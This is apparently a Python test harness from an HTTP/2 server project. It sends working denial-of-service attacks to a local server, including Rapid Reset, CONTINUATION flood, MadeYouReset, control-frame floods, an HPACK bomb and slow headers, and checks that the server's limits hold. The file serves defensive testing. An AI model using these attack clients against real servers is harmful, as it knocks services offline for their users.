"""Hostile HTTP/2 clients for the attack tests (onager.server.http2-attacks-test).

    python h2_attack.py ATTACK --port PORT [--tls] [--path /p] [--count N] [--wait S]

Each attack opens one connection to 127.0.0.1 (h2c by prior knowledge, RFC 9113
§3.3, or h2 over TLS by ALPN with --tls), sends its frames, built one by one with
hyperframe and hpack (Python h2's own libraries) since no well-behaved client would
send them, and reads what the server answers. Halfway through, a well-behaved
client (Python h2's H2Connection) makes a request on a connection of its own. The
last line printed is one JSON object:

    attack       the attack's name
    sent         frames of the attack written before the server stopped taking them
    goaway       {"error": "ENHANCE_YOUR_CALM", "last_stream_id": n, "debug": "..."} or null
    closed       true when the server closed the connection (EOF or reset)
    resets       {"ERROR_NAME": count} of the RST_STREAM frames the server sent
    statuses     {"status": count} of the response heads the server sent
    streams      {"stream id": {"status": s, "reset": "ERROR_NAME", "data": bytes}}, for 16 streams or fewer
    stalled_ms   zero-window: milliseconds from the request to its reset or close
    ended_ms     beside: milliseconds from stream 1's HEADERS to its end (END_STREAM or reset)
    idle_ms      beside with --linger: milliseconds from the last stream's end to the GOAWAY or close
    cut_ms       slow-headers: milliseconds from the HEADERS to the GOAWAY or close
    settings     the server's SETTINGS, by name
    good         the well-behaved client's status, or an error string
    ms           how long the whole attack took

One case is no attack but a limit of the server's met by one stream: "beside"
makes its streams with Python h2's H2Connection, stream 1 the one the limit ends,
streams 3 and 5 well-behaved ones on the same connection (see `beside`).

Everything is bounded: --count frames at most, and reads give up after --wait
seconds of silence or three times that in all.
"""

import argparse
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# RFC 9113 §7.
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
          "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
          "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]

# RFC 9113 §6.5.2.
SETTINGS = {1: "HEADER_TABLE_SIZE", 2: "ENABLE_PUSH", 3: "MAX_CONCURRENT_STREAMS", 4: "INITIAL_WINDOW_SIZE",
            5: "MAX_FRAME_SIZE", 6: "MAX_HEADER_LIST_SIZE", 8: "ENABLE_CONNECT_PROTOCOL"}

CANCEL = 8


def error_name(code):
    return ERRORS[code] if code < len(ERRORS) else "0x%x" % code


def open_socket(args, rcvbuf=None, alpn=("h2",)):
    """A connected socket to the server (TLS with `alpn` offered when --tls), reads and writes
    timing out after --wait seconds. A small `rcvbuf` makes the server's replies back up soon."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    raw.settimeout(args.wait)
    raw.connect(("127.0.0.1", args.port))
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not args.tls:
        return raw
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(list(alpn))
    sock = context.wrap_socket(raw, server_hostname="localhost")
    if sock.selected_alpn_protocol() != "h2":
        raise SystemExit("the server did not pick h2 by ALPN: %r" % sock.selected_alpn_protocol())
    return sock


def request_headers(args, path=None, method="GET"):
    return [(":method", method), (":scheme", "https" if args.tls else "http"),
            (":authority", "127.0.0.1:%d" % args.port), (":path", path or args.path)]


class Attacker:
    """One raw HTTP/2 connection: writes frames, and parses what the server sends into the report."""

    def __init__(self, args, settings=None, rcvbuf=None):
        self.args = args
        self.sock = open_socket(args, rcvbuf)
        self.encoder = Encoder()
        self.buffer = b""
        self.sent = 0
        self.report = {"goaway": None, "closed": False, "resets": {}, "statuses": {}, "settings": {},
                       "data": {}}
        self.frame_events = []
        first = SettingsFrame(0)
        first.settings = settings or {}
        self.write(PREFACE + first.serialize())

    def write(self, data, frames=0):
        """Writes `data` (holding `frames` frames of the attack); False once the server has closed."""
        if self.report["closed"]:
            return False
        try:
            self.sock.sendall(data)
            self.sent += frames
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, socket.timeout, OSError):
            # What the server sent before it closed (a GOAWAY) may still be there to read.
            self.read(0.5)
            self.report["closed"] = True
            return False

    def headers(self, stream_id, headers, end_stream=True, end_headers=True, encoded=None):
        frame = HeadersFrame(stream_id)
        frame.data = encoded if encoded is not None else self.encoder.encode(headers)
        if end_stream:
            frame.flags.add("END_STREAM")
        if end_headers:
            frame.flags.add("END_HEADERS")
        return frame.serialize()

    def read(self, quiet, until=None):
        """Reads and parses frames until the server closes, `until(report)` holds, nothing has come
        for `quiet` seconds, or 3 × `quiet` seconds have passed."""
        deadline = time.monotonic() + 3 * quiet
        while not self.report["closed"]:
            if until and until(self.report):
                return
            if time.monotonic() > deadline:
                return
            self.sock.settimeout(quiet)
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                return
            except (ConnectionResetError, ssl.SSLError, OSError):
                chunk = b""
            finally:
                self.sock.settimeout(self.args.wait)
            if not chunk:
                self.report["closed"] = True
                return
            self.buffer += chunk
            self.parse()

    def poll(self):
        """Parses what has arrived, without waiting."""
        self.read(0.001)

    def parse(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            self.on_frame(frame)

    def on_frame(self, frame):
        r = self.report
        sid = str(frame.stream_id)
        if isinstance(frame, GoAwayFrame):
            r["goaway"] = {"error": error_name(frame.error_code), "last_stream_id": frame.last_stream_id,
                           "debug": frame.additional_data.decode("utf-8", "replace")}
        elif isinstance(frame, RstStreamFrame):
            r["resets"][sid] = error_name(frame.error_code)
            self.frame_events.append(("reset", frame.stream_id, time.monotonic()))
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            r["settings"].update({SETTINGS.get(k, str(k)): v for k, v in frame.settings.items()})
        elif isinstance(frame, HeadersFrame):
            # The server's header blocks are not decoded (that would need its HPACK state kept across
            # frames); the status is the first field, sent as a static table index or a literal.
            status = static_status(frame.data)
            if status and sid not in r["statuses"]:
                r["statuses"][sid] = status
        elif isinstance(frame, DataFrame):
            r["data"][sid] = r["data"].get(sid, 0) + len(frame.data)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# RFC 7541 Appendix A: the static table's :status entries.
STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}


def static_status(block):
    """The :status of a response head whose block starts with it: indexed (static table) or a
    literal with the name indexed and the value not Huffman-coded; None otherwise."""
    if not block:
        return None
    b = block[0]
    if b & 0x80:
        return STATIC_STATUS.get(b & 0x7F)
    # Literal with incremental indexing (01xxxxxx), without indexing (0000xxxx) or never indexed
    # (0001xxxx), its name a :status index (8–14).
    index = b & 0x3F if b & 0x40 else b & 0x0F
    if 8 <= index <= 14 and len(block) >= 5 and not block[1] & 0x80 and block[1] == 3:
        try:
            return int(block[2:5].decode("ascii"))
        except ValueError:
            return None
    if 8 <= index <= 14 and len(block) >= 2 and block[1] & 0x80:
        # Huffman-coded value: the status is there but not readable without a decoder.
        return -1
    return None


def good_request(args):
    """A well-behaved client on a connection of its own: GET /plaintext with Python h2. Returns
    the response status, or a string saying what went wrong."""
    try:
        sock = open_socket(args)
    except OSError as e:
        return "connect failed: %s" % e
    try:
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        conn.send_headers(1, request_headers(args, args.good_path), end_stream=True)
        sock.sendall(conn.data_to_send())
        status = None
        deadline = time.monotonic() + args.wait
        while time.monotonic() < deadline:
            data = sock.recv(65536)
            if not data:
                return "closed before the response ended (status %s)" % status
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    status = int(dict(event.headers)[":status"])
                elif isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.StreamEnded):
                    return status
                elif isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    return "refused: %s" % event
            sock.sendall(conn.data_to_send())
        return "no response within %s s" % args.wait
    except (OSError, ssl.SSLError) as e:
        return "failed: %s" % e
    finally:
        sock.close()


def in_batches(a, count, batch, make, read_between=True):
    """Writes `count` attack frames, `batch` at a time, each batch the bytes `make(first, n)`
    returns; the well-behaved client runs halfway through. Stops once the server has closed."""
    good = None
    i = 0
    while i < count:
        n = min(batch, count - i)
        if not a.write(make(i, n), n):
            break
        i += n
        if read_between:
            a.poll()
            if a.report["closed"]:
                break
        if good is None and i >= count // 2:
            good = good_request(a.args)
    return good if good is not None else good_request(a.args)


# ---- the attacks ----

def rapid_reset(args):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) at once, stream after stream."""
    a = Attacker(args)
    rst = {}

    def make(first, n):
        out = []
        for k in range(first, first + n):
            sid = 1 + 2 * k
            out.append(a.headers(sid, request_headers(args)))
            f = RstStreamFrame(sid)
            f.error_code = CANCEL
            out.append(f.serialize())
        return b"".join(out)

    good = in_batches(a, args.count, 100, make)
    a.read(args.wait)
    return a, good


def continuation_flood(args):
    """CVE-2024-27316 and kin: a HEADERS without END_HEADERS, then CONTINUATION frames that never
    end the block; --size bytes of header fields in each (0: empty frames)."""
    a = Attacker(args)
    start = a.encoder.encode(request_headers(args))
    a.write(a.headers(1, None, end_stream=True, end_headers=False, encoded=start))
    if args.size:
        field = NeverIndexedHeaderTuple("x-flood", "a" * 100)
        fragment = Encoder().encode([field] * max(1, args.size // 110), huffman=False)
    else:
        fragment = b""

    def make(first, n):
        f = ContinuationFrame(1)
        f.data = fragment
        return f.serialize() * n

    good = in_batches(a, args.count, 64, make)
    a.read(args.wait)
    return a, good


def control_flood(args, frame_bytes):
    """Frames the server must answer (SETTINGS, PING), sent without reading the answers, through a
    small receive buffer: the answers pile up in the server."""
    a = Attacker(args, rcvbuf=4096)
    good = in_batches(a, args.count, 2000, lambda first, n: frame_bytes * n, read_between=False)
    a.read(args.wait)
    return a, good


def settings_flood(args):
    return control_flood(args, SettingsFrame(0).serialize())


def ping_flood(args):
    f = PingFrame(0)
    f.opaque_data = b"12345678"
    return control_flood(args, f.serialize())


def priority_flood(args):
    """PRIORITY frames (RFC 9113 §6.3), which take no answer, for ever new idle streams."""
    a = Attacker(args)

    def make(first, n):
        out = []
        for k in range(first, first + n):
            f = PriorityFrame(1 + 2 * k)
            f.depends_on = 2 * k - 1 if k else 0
            f.stream_weight = 15
            out.append(f.serialize())
        return b"".join(out)

    good = in_batches(a, args.count, 1000, make)
    a.read(args.wait)
    return a, good


def empty_data_flood(args):
    """A POST whose body never ends, sent as DATA frames of no bytes (no flow-control cost)."""
    a = Attacker(args)
    a.write(a.headers(1, request_headers(args, method="POST"), end_stream=False))
    empty = DataFrame(1).serialize()
    good = in_batches(a, args.count, 1000, lambda first, n: empty * n)
    a.read(args.wait)
    return a, good


def hpack_bomb(args):
    """RFC 7541 §7.3: a large header field put in the dynamic table by one request, then named by
    its one-byte index --count times in the next request's block."""
    a = Attacker(args)
    big = ("x-bomb", "a" * args.size)
    a.write(a.headers(1, request_headers(args) + [big]))
    # The field is the newest dynamic table entry: index 62 (RFC 7541 §2.3.3), one byte 0xBE.
    # The pseudo-headers never indexed, so that the dynamic table stays as it was.
    block = Encoder().encode([NeverIndexedHeaderTuple(k, v) for k, v in request_headers(args)], huffman=False)
    block += b"\xbe" * args.count
    out = [a.headers(3, None, end_headers=False, encoded=block[:16384])]
    rest = block[16384:]
    while rest:
        f = ContinuationFrame(3)
        f.data = rest[:16384]
        rest = rest[16384:]
        if not rest:
            f.flags.add("END_HEADERS")
        out.append(f.serialize())
    if len(out) == 1:
        out[0] = a.headers(3, None, encoded=block)
    a.write(b"".join(out), args.count)
    good = good_request(args)
    a.read(args.wait)
    return a, good


def header_list(args):
    """One request with --count distinct header fields of --size bytes each, literal, never
    indexed: a header list far over any sane limit, sent in HEADERS and CONTINUATION frames."""
    a = Attacker(args)
    fields = [NeverIndexedHeaderTuple(k, v) for k, v in request_headers(args)]
    fields += [NeverIndexedHeaderTuple("x-h%d" % i, "v" * args.size) for i in range(args.count)]
    block = Encoder().encode(fields, huffman=False)
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    out = [a.headers(1, None, end_headers=len(chunks) == 1, encoded=chunks[0])]
    for k, chunk in enumerate(chunks[1:], 2):
        f = ContinuationFrame(1)
        f.data = chunk
        if k == len(chunks):
            f.flags.add("END_HEADERS")
        out.append(f.serialize())
    a.write(b"".join(out), len(out))
    good = good_request(args)
    a.read(args.wait)
    return a, good


def zero_window(args):
    """SETTINGS_INITIAL_WINDOW_SIZE 0 (RFC 9113 §6.9.2) and no WINDOW_UPDATE ever: the response
    to --path cannot send a byte of its body. The server must give up on it in time."""
    a = Attacker(args, settings={4: 0})
    a.write(a.headers(1, request_headers(args)), 1)
    asked = time.monotonic()
    good = good_request(args)
    a.read(args.wait, until=lambda r: "1" in r["resets"] or r["goaway"] is not None)
    ended = next((t for kind, sid, t in a.frame_events if kind == "reset" and sid == 1), None)
    if ended is None and (a.report["closed"] or a.report["goaway"]):
        ended = time.monotonic()
    a.report["stalled_ms"] = None if ended is None else round((ended - asked) * 1000)
    return a, good


def concurrent_streams(args):
    """More streams at once than the server's SETTINGS_MAX_CONCURRENT_STREAMS (RFC 9113 §5.1.2),
    each a request to --path (which should take a while): the ones over the limit must be
    refused, the others served. --count streams beyond the limit."""
    a = Attacker(args)
    a.read(args.wait, until=lambda r: "MAX_CONCURRENT_STREAMS" in r["settings"])
    limit = a.report["settings"].get("MAX_CONCURRENT_STREAMS")
    if limit is None or limit > 10000:
        a.report["error"] = "no usable SETTINGS_MAX_CONCURRENT_STREAMS: %r" % limit
        return a, good_request(args)
    total = limit + args.count
    a.write(b"".join(a.headers(1 + 2 * k, request_headers(args)) for k in range(total)), total)
    good = good_request(args)
    a.read(args.wait, until=lambda r: len(r["statuses"]) + len(r["resets"]) >= total or r["goaway"])
    a.report["limit"] = limit
    return a, good


def slow_headers(args):
    """Slowloris over HTTP/2: a HEADERS frame without END_HEADERS, then a small CONTINUATION frame
    every --interval seconds, --count of them at most, the header block never ended (RFC 9113
    §6.10: nothing else may come on the connection meanwhile). Fewer frames than a CONTINUATION
    flood's, so that only a timeout on the block can end it."""
    a = Attacker(args)
    a.write(a.headers(1, None, end_headers=False, encoded=a.encoder.encode(request_headers(args))))
    opened = time.monotonic()
    cut = None
    good = None
    for k in range(args.count):
        a.read(args.interval, until=lambda r: r["goaway"] is not None)
        if a.report["closed"] or a.report["goaway"]:
            cut = time.monotonic()
            break
        f = ContinuationFrame(1)
        f.data = Encoder().encode([NeverIndexedHeaderTuple("x-slow-%d" % k, "v")], huffman=False)
        if not a.write(f.serialize(), 1):
            cut = time.monotonic()
            break
        if good is None and k >= args.count // 2:
            good = good_request(args)
    if good is None:
        good = good_request(args)
    if cut is None:
        a.read(args.wait, until=lambda r: r["goaway"] is not None)
        if a.report["closed"] or a.report["goaway"]:
            cut = time.monotonic()
    a.read(0.5)
    a.report["cut_ms"] = None if cut is None else round((cut - opened) * 1000)
    return a, good


def made_you_reset(args):
    """MadeYouReset (CVE-2025-55163): requests for --path (which should take a while), each followed
    at once by a frame that makes the server reset the stream itself, by turns a WINDOW_UPDATE of 0
    (RFC 9113 §6.9) and DATA on the stream the client has ended (§5.1, half-closed). The client
    sends no RST_STREAM, so a limit on the resets it sends never counts these; the handlers go on
    running while their streams no longer count against SETTINGS_MAX_CONCURRENT_STREAMS."""
    a = Attacker(args)

    def make(first, n):
        out = []
        for k in range(first, first + n):
            sid = 1 + 2 * k
            out.append(a.headers(sid, request_headers(args)))
            if k % 2 == 0:
                f = WindowUpdateFrame(sid)
                f.window_increment = 0
            else:
                f = DataFrame(sid)
                f.data = b"x"
            out.append(f.serialize())
        return b"".join(out)

    good = in_batches(a, args.count, 100, make)
    a.read(args.wait)
    return a, good


class Client:
    """A well-behaved connection made with Python h2's H2Connection; its report has the
    Attacker's shape, its streams' ends are timed."""

    def __init__(self, args):
        self.args = args
        self.sock = open_socket(args)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                          header_encoding="utf-8"))
        self.conn.initiate_connection()
        self.sent = 0
        self.report = {"goaway": None, "closed": False, "resets": {}, "statuses": {}, "settings": {},
                       "data": {}}
        self.ended = {}
        self.flush()

    def flush(self):
        data = self.conn.data_to_send()
        if data and not self.report["closed"]:
            try:
                self.sock.sendall(data)
            except OSError:
                self.report["closed"] = True

    def read(self, quiet, until=None):
        """As Attacker.read: until the server closes, `until(self)` holds, `quiet` seconds of silence
        or 3 × `quiet` in all."""
        deadline = time.monotonic() + 3 * quiet
        while not self.report["closed"]:
            if until and until(self):
                return
            if time.monotonic() > deadline:
                return
            self.sock.settimeout(quiet)
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                return
            except OSError:
                chunk = b""
            if not chunk:
                self.report["closed"] = True
                self.ended.setdefault("closed", time.monotonic())
                return
            try:
                events = self.conn.receive_data(chunk)
            except h2.exceptions.ProtocolError as e:
                self.report["error"] = "the server's frames broke HTTP/2: %r" % e
                self.report["closed"] = True
                return
            for e in events:
                self.on_event(e)
            self.flush()

    def on_event(self, e):
        r = self.report
        now = time.monotonic()
        if isinstance(e, h2.events.ResponseReceived):
            status = int(dict(e.headers)[":status"])
            if status >= 200:
                r["statuses"][str(e.stream_id)] = status
        elif isinstance(e, h2.events.DataReceived):
            sid = str(e.stream_id)
            r["data"][sid] = r["data"].get(sid, 0) + len(e.data)
            self.conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
        elif isinstance(e, h2.events.StreamEnded):
            self.ended.setdefault(e.stream_id, now)
        elif isinstance(e, h2.events.StreamReset):
            r["resets"][str(e.stream_id)] = error_name(e.error_code)
            self.ended.setdefault(e.stream_id, now)
        elif isinstance(e, h2.events.ConnectionTerminated):
            r["goaway"] = {"error": error_name(e.error_code), "last_stream_id": e.last_stream_id,
                           "debug": (e.additional_data or b"").decode("utf-8", "replace")}
            self.ended.setdefault("closed", now)
        elif isinstance(e, h2.events.RemoteSettingsChanged):
            r["settings"].update({SETTINGS.get(int(k), str(k)): v.new_value for k, v in e.changed_settings.items()})

    def gone(self):
        return self.report["closed"] or self.report["goaway"] is not None

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def beside(args):
    """A limit of the server's met by one stream of a connection while others go on: stream 1 asks
    for --path with --method, --extra-headers header fields more, and, with --open-body N, N bytes
    of a body it then never ends; stream 3 asks for --good-path at once on the same connection,
    and stream 5 once stream 1 has ended. With --linger S, the connection is then watched S
    seconds more for the server to close it (the idle timeout)."""
    c = Client(args)
    c.read(0.2, until=lambda c: c.report["settings"])
    headers = request_headers(args, method=args.method)
    headers += [("x-extra-%d" % i, "v") for i in range(args.extra_headers)]
    body = args.open_body or args.method == "POST"
    c.conn.send_headers(1, headers, end_stream=not body)
    if args.open_body:
        c.conn.send_data(1, b"b" * args.open_body, end_stream=False)
    c.flush()
    opened = time.monotonic()
    c.conn.send_headers(3, request_headers(args, args.good_path), end_stream=True)
    c.flush()
    good = good_request(args)
    c.read(args.wait, until=lambda c: (1 in c.ended and 3 in c.ended) or c.gone())
    if 1 in c.ended:
        c.report["ended_ms"] = round((c.ended[1] - opened) * 1000)
    if not c.gone():
        c.conn.send_headers(5, request_headers(args, args.good_path), end_stream=True)
        c.flush()
        c.read(args.wait, until=lambda c: 5 in c.ended or c.gone())
    if args.linger:
        last = max([t for k, t in c.ended.items() if k != "closed"], default=time.monotonic())
        c.read(args.linger, until=lambda c: c.gone())
        if "closed" in c.ended:
            c.report["idle_ms"] = round((c.ended["closed"] - last) * 1000)
    return c, good


ATTACKS = {"rapid-reset": rapid_reset, "continuation-flood": continuation_flood,
           "settings-flood": settings_flood, "ping-flood": ping_flood, "priority-flood": priority_flood,
           "empty-data-flood": empty_data_flood, "hpack-bomb": hpack_bomb, "header-list": header_list,
           "zero-window": zero_window, "concurrent-streams": concurrent_streams,
           "slow-headers": slow_headers, "made-you-reset": made_you_reset, "beside": beside}


def summarise(r):
    """The report with counts in place of the per-stream maps, which are kept only when short."""
    ids = set(r["resets"]) | set(r["statuses"]) | set(r["data"])
    out = dict(r, resets=counts(r["resets"].values()), statuses=counts(str(s) for s in r["statuses"].values()))
    del out["data"]
    if len(ids) <= 16:
        out["streams"] = {sid: {"status": r["statuses"].get(sid), "reset": r["resets"].get(sid),
                                "data": r["data"].get(sid, 0)} for sid in sorted(ids, key=int)}
    return out


def counts(values):
    c = {}
    for v in values:
        c[v] = c.get(v, 0) + 1
    return c


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true")
    p.add_argument("--path", default="/plaintext")
    p.add_argument("--good-path", default="/plaintext")
    p.add_argument("--count", type=int, default=10000)
    p.add_argument("--size", type=int, default=0)
    p.add_argument("--wait", type=float, default=5.0)
    p.add_argument("--interval", type=float, default=0.2)
    p.add_argument("--method", default="GET")
    p.add_argument("--extra-headers", type=int, default=0)
    p.add_argument("--open-body", type=int, default=0)
    p.add_argument("--linger", type=float, default=0)
    args = p.parse_args()
    t0 = time.monotonic()
    a, good = ATTACKS[args.attack](args)
    a.close()
    report = summarise(a.report)
    report = dict(report, attack=args.attack, sent=a.sent, good=good, ms=round((time.monotonic() - t0) * 1000))
    print(json.dumps(report))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
